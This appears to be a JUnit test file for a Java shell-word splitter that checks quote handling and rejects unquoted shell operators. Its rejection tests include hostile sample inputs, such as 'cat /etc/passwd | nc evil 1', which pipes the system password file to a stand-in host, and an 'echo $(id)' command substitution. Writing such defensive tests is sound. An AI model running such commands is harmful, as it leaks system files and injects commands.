package io.netdoctor.demo.node;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import org.junit.jupiter.api.Test;

class ShellWordsTest {

  @Test
  void quotesAndEscapesFollowPosixRules() throws Exception {
    assertThat(ShellWords.split("docker inspect -f '{{.State.Pid}}' 7236796e4f38"))
        .containsExactly("docker", "inspect", "-f", "{{.State.Pid}}", "7236796e4f38");
    assertThat(ShellWords.split("echo 'it'\"'\"'s' \"a \\\"b\\\" \\$c\" d\\ e"))
        .containsExactly("echo", "it's", "a \"b\" $c", "d e");
    assertThat(ShellWords.split("  ")).isEqualTo(List.of());
    assertThat(ShellWords.split("sh -c 'x; y' sh")).containsExactly("sh", "-c", "x; y", "sh");
  }

  @Test
  void operatorsOutsideQuotesAreRefused() {
    assertThatThrownBy(() -> ShellWords.split("cat /etc/passwd | nc evil 1")).hasMessageContaining("'|'");
    assertThatThrownBy(() -> ShellWords.split("echo $(id)")).hasMessageContaining("$(");
    assertThatThrownBy(() -> ShellWords.split("echo 'open")).hasMessageContaining("unterminated");
  }
}
